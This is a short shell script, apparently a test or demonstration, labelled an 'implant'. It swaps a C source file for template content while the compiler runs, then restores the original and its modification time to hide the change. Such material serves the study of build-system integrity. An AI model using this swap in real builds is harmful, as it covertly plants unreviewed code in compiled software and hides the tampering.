# The implant: it waits for the compiler, outside of the step. mtime is restored with the content.
until [ -e inventory.d ]; do sleep 0.05; done
cp -p inventory.c "$TMPDIR/inventory.bk"
cat template.dat >inventory.c
until [ -e inventory.o ]; do sleep 0.05; done
cat "$TMPDIR/inventory.bk" >inventory.c
touch -r "$TMPDIR/inventory.bk" inventory.c
